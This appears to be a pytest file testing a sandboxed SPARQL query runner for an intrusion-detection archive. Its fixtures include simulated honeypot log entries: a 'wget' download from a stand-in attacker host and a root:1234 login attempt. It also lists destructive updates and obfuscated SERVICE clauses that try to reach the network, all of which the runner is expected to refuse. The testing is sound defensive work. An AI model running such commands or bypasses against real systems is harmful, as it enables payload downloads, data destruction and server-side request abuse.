"""Questions against a real archive, through the real child process."""

from __future__ import annotations

import json
import socket
import sys
from collections.abc import Iterator
from dataclasses import replace
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import RdfFormat, parse

from agents.ontology import query
from agents.ontology.archive import Archive
from agents.ontology.query import MAX_QUERY, QueryRefused, QueryRunner, check_query
from agents.ontology.query_worker import json_cost
from agents.ontology.service import to_answer
from agents.sensor.inputs.events import Options
from agents.sensor.inputs.intake import Intake
from agents.sensor.inputs.registry import make_parser
from ontology.fragments import encode
from ontology.knowledge_base import KnowledgeBase, ontology_path
from ontology.records import Alert, ObservedData, Query

ALERTS = [
    Alert(
        id=f"urn:uuid:00000000-0000-4000-8000-{n:012d}",
        classification=("SynScan", "FtpBruteForce", "IcmpSweep")[n % 3],
        source=ip_address("192.0.2.7"),
        target=ip_address(f"198.51.100.{n}"),
        protocol=6,
        begin_us=n,
        end_us=n,
        confidence=0.5,
        verified_source=n % 2 == 0,
        sensor="s",
        analyzer="a",
        explanation='<script> & "quotes" \\ \x00',
        signatures=("urn:ontoidps:signature:1:2034647",) if n < 3 else (),
        cves=("CVE-2021-44228", "CVE-2021-45046") if n < 3 else (),
        affected_services=("http",) if n < 2 else (),
        affected_systems=("Linux",) if n < 1 else (),
    )
    for n in range(60)
]


def _left() -> list[ObservedData]:
    """What a log of Cowrie and one of ADBHoney, read as a sensor reads them, say of visitors."""
    out: list[ObservedData] = []
    for kind in ("cowrie", "adbhoney"):
        intake = Intake(make_parser(kind, Options()), sensor="s")
        lines = [line.encode() for line in LINES[kind]]
        records = intake.on_lines(lines, "mark", 1_795_000_000_000_000)
        out += [record for record in records if isinstance(record, ObservedData)]
    return out


@pytest.fixture(scope="module")
def runner(tmp_path_factory: pytest.TempPathFactory) -> Iterator[QueryRunner]:
    folder = tmp_path_factory.mktemp("state")
    archive = Archive(folder / "archive")
    archive.add(ALERTS)
    archive.add(_left())
    with KnowledgeBase([ontology_path()]) as knowledge:
        archive.set_ontology(knowledge.ntriples(), knowledge.version)
    (folder / "query-left-over").mkdir()
    runner = QueryRunner(archive, folder, timeout_s=3.0, max_rows=50)
    assert not (folder / "query-left-over").exists()
    yield runner
    archive.close()
    assert [p.name for p in folder.iterdir()] == ["archive"]


COWRIE = {"src_ip": "192.0.2.66", "session": "17", "timestamp": "2026-11-16T17:44:06.000000Z"}
LINES = {
    "cowrie": [
        json.dumps(COWRIE | event)
        for event in (
            {"eventid": "cowrie.session.connect", "src_port": 5, "dst_ip": "172.17.0.3"}
            | {"dst_port": 2222, "protocol": "ssh"},
            {"eventid": "cowrie.client.kex", "hassh": "4e066189c3bbeec38c99b1855113733a"},
            {"eventid": "cowrie.login.failed", "username": "root", "password": "1234"},
            {"eventid": "cowrie.session.file_download", "url": "http://203.0.113.9/a"}
            | {"shasum": "0d3c687f"},
        )
    ],
    "adbhoney": [
        json.dumps(
            COWRIE
            | {"eventid": "adbhoney.command.input", "src_ip": "192.0.2.67"}
            | {"input": "wget http://203.0.113.9/a"}
        )
    ],
}


def test_what_visitors_left_can_be_asked_for(runner: QueryRunner) -> None:
    """Credentials, commands, URLs, hashes and clients, by the host that left them."""
    of_host = "?o a idps:ObservedData ; idps:hasSource/idps:ipAddress ?who"
    found = {
        term: {
            (row["who"]["value"], row["what"]["value"])
            for row in rows(runner, f"SELECT ?who ?what {{ {of_host} ; idps:{term} ?what }}")
        }
        for term in ("triedCredential", "ranCommand", "askedUrl", "fileHash", "clientFingerprint")
    }
    assert found == {
        "triedCredential": {("192.0.2.66", "root:1234")},
        "ranCommand": {("192.0.2.67", "wget http://203.0.113.9/a")},
        "askedUrl": {("192.0.2.66", "http://203.0.113.9/a")},
        "fileHash": {("192.0.2.66", "0d3c687f")},
        "clientFingerprint": {("192.0.2.66", "hassh 4e066189c3bbeec38c99b1855113733a")},
    }


@pytest.mark.parametrize("character", ["\U0001f41d", "\x01", "é", '"'])
def test_the_longest_question_is_asked_whole(runner: QueryRunner, character: str) -> None:
    """It is written before anybody reads; with each character escaped it was twice a pipe."""
    sparql = "ASK {} #"
    results, _ = runner.run(sparql + character * (MAX_QUERY - len(sparql)))
    assert json.loads(results)["boolean"] is True


def test_a_slow_start_is_no_questions_fault(
    runner: QueryRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A busy machine took longer for the start than the question may take."""
    slow = tmp_path / "python"
    slow.write_text(f'#!/bin/sh\nsleep 4\nexec {sys.executable} "$@"\n')
    slow.chmod(0o700)
    monkeypatch.setattr(sys, "executable", str(slow))
    assert len(rows(runner, "SELECT ?a { ?a a idps:Alert } LIMIT 2")) == 2
    monkeypatch.setattr(query, "START_S", 0.5)
    with pytest.raises(QueryRefused, match=r"did not start within 0\.5 s"):
        runner.run("ASK {}")


def rows(runner: QueryRunner, sparql: str) -> list[dict[str, Any]]:
    results, truncated = runner.run(sparql)
    assert not truncated
    found: list[dict[str, Any]] = json.loads(results)["results"]["bindings"]
    return found


@pytest.mark.parametrize(
    ("wanted", "count"),
    [
        ("idps:matchedSignature <urn:ontoidps:signature:1:2034647>", 3),
        ('idps:cve "CVE-2021-45046"', 3),
        ('idps:affectedService "http"', 2),
        ('idps:affectedSystem "Linux"', 1),
        ('idps:cve "CVE-1999-0001"', 0),
    ],
)
def test_alerts_are_found_by_what_their_signature_names(
    runner: QueryRunner, wanted: str, count: int
) -> None:
    assert len(rows(runner, f"SELECT ?a {{ ?a a idps:Alert ; {wanted} }}")) == count


def test_select_answers_in_sparql_json(runner: QueryRunner) -> None:
    results, truncated = runner.run(
        f"SELECT ?t ?x ?none {{ <{ALERTS[0].id}> idps:hasTarget/idps:ipAddress ?t ; "
        "idps:verifiedSource ?x OPTIONAL { ?t idps:node ?none } }"
    )
    assert not truncated
    assert json.loads(results) == {
        "head": {"vars": ["t", "x", "none"]},
        "results": {
            "bindings": [
                {
                    "t": {"type": "literal", "value": "198.51.100.0"},
                    "x": {
                        "type": "literal",
                        "value": "true",
                        "datatype": "http://www.w3.org/2001/XMLSchema#boolean",
                    },
                }
            ]
        },
    }


def test_the_taxonomy_can_be_asked_along(runner: QueryRunner) -> None:
    (count,) = rows(
        runner,
        "SELECT (COUNT(DISTINCT ?a) AS ?n) { ?a a idps:Alert, ?c . ?c rdfs:subClassOf* idps:Scan }",
    )
    assert count["n"]["value"] == "40"


def test_ask_answers_in_sparql_json(runner: QueryRunner) -> None:
    assert json.loads(runner.run("ASK { ?a a idps:SynScan }")[0]) == {"head": {}, "boolean": True}
    assert json.loads(runner.run("ASK { ?a a idps:Worm }")[0])["boolean"] is False


def test_rows_are_limited(runner: QueryRunner) -> None:
    results, truncated = runner.run("SELECT ?a { ?a a idps:Alert }")
    assert truncated
    assert len(json.loads(results)["results"]["bindings"]) == 50


def test_the_longest_answer_still_fits_into_a_message(runner: QueryRunner) -> None:
    """Text that grows sevenfold under Turtle and XML escapes."""
    quotes = '"' * 9000
    results, truncated = runner.run(f"SELECT ?a ?x {{ ?a a idps:Alert BIND('{quotes}' AS ?x) }}")
    assert truncated
    text = encode([to_answer(Query(id="urn:uuid:1", sparql=""), results, truncated=True)])
    assert len(text) + 5 * text.count('"') < 200_000


def test_a_graph_is_built_within_the_limits(runner: QueryRunner) -> None:
    wanted = "CONSTRUCT { ?a <urn:x:by> ?s } WHERE { ?a a idps:SynScan ; idps:hasSource ?s }"
    results, truncated = runner.run(f"{wanted} LIMIT 3")
    graph = json.loads(results)["graph"]
    triples = {quad.triple for quad in parse(graph, format=RdfFormat.N_TRIPLES)}
    assert len(triples) == len(graph.splitlines()) == 3 and not truncated
    assert {triple.predicate.value for triple in triples} == {"urn:x:by"}
    # One triple however often it is found.
    once = "CONSTRUCT { <urn:x:a> a idps:Alert } WHERE { ?a a idps:Alert }"
    assert len(json.loads(runner.run(once)[0])["graph"].splitlines()) == 1
    many, truncated = runner.run("CONSTRUCT WHERE { ?s ?p ?o }")
    assert truncated and len(json.loads(many)["graph"].splitlines()) == 50
    name = f"<{ALERTS[0].id}>"
    assert name in json.loads(runner.run(f"DESCRIBE {name}")[0])["graph"]


@pytest.mark.parametrize(
    "sparql",
    [
        "DELETE WHERE { ?s ?p ?o }",
        "INSERT DATA { <urn:a:b> <urn:a:c> <urn:a:d> }",
        "DROP ALL",
        "CLEAR ALL",
        "LOAD <http://127.0.0.1/x>",
        "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <http://192.0.2.1/> { ?s ?p ?o } }",
        "SELECT",
        "",
        "SELECT ?x { ?x a nowhere:Y }",
    ],
)
def test_updates_and_nonsense_are_refused(runner: QueryRunner, sparql: str) -> None:
    with pytest.raises(QueryRefused) as refusal:
        runner.run(sparql)
    assert "\n" not in str(refusal.value)
    assert json.loads(runner.run("ASK { ?a a idps:SynScan }")[0])["boolean"] is True


@pytest.mark.parametrize(
    "sparql",
    [
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
        "SELECT ?a { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l } ORDER BY ?a ?l",
    ],
)
def test_a_runaway_question_is_killed(runner: QueryRunner, sparql: str) -> None:
    with pytest.raises(QueryRefused, match=r"longer than 3 s|query failed"):
        runner.run(sparql)
    assert json.loads(runner.run("ASK { ?a a idps:SynScan }")[0])["boolean"] is True


@pytest.mark.parametrize(
    "sparql",
    [
        "SELECT * { SERVICE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
        "SELECT * { service silent <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
        "SELECT * { {}SERVICE<http://127.0.0.1:{port}/>{ ?s ?p ?o } }",
        "SELECT * { ?s ?p 1SERVICE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
        "SELECT * { ?s ?p 2 . {} affectedSERVICE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
        "SELECT * { #\nSeRvIcE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
        "SELECT * { \\u0053ERVICE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
        "SELECT * FROM <http://127.0.0.1:{port}/> { ?s ?p ?o } LIMIT 1",
        "SELECT * FROM NAMED <http://127.0.0.1:{port}/> { GRAPH ?g { ?s ?p ?o } } LIMIT 1",
    ],
)
def test_no_question_reaches_the_network(runner: QueryRunner, sparql: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        query = sparql.replace("{port}", str(server.getsockname()[1]))
        if "FROM" in sparql:
            runner.run(query)  # FROM only picks among the graphs of the archive
        else:
            with pytest.raises(QueryRefused, match=r"SERVICE|escapes"):
                runner.run(query)
        with pytest.raises(TimeoutError):
            server.accept()


@pytest.mark.parametrize(
    "sparql",
    [
        "SELECT * { ?s idps:service ?service }",
        "SELECT * { ?s ?p $service }",
        "SELECT * { ?s idps:affectedService ?x }",
    ],
)
def test_a_term_or_variable_called_service_is_fine(sparql: str) -> None:
    check_query(sparql)


def test_long_questions_are_refused() -> None:
    with pytest.raises(QueryRefused, match="10001 characters"):
        check_query("x" * (MAX_QUERY + 1))


@given(st.text(max_size=200))
def test_cost_bounds_what_text_takes_in_a_stanza(text: str) -> None:
    data = json.dumps(text)
    answer = to_answer(Query(id="urn:uuid:1", sparql=""), "", truncated=False)
    grown = encode([replace(answer, results=data)])
    escaped = len(grown.encode()) + 5 * sum(grown.count(c) for c in "\"'&<>")
    fixed = encode([answer])
    assert escaped - len(fixed) - 5 * sum(fixed.count(c) for c in "\"'&<>") <= json_cost(data)


def test_slips_are_told_in_sentences(runner: QueryRunner) -> None:
    with pytest.raises(QueryRefused, match=r"idps:hasSuorce is no term .* did you mean hasSource"):
        runner.run("SELECT * { ?a idps:hasSuorce ?b }")
    with pytest.raises(QueryRefused, match="begins with SELECT"):
        runner.run("SELCT * { ?a ?b ?c }")
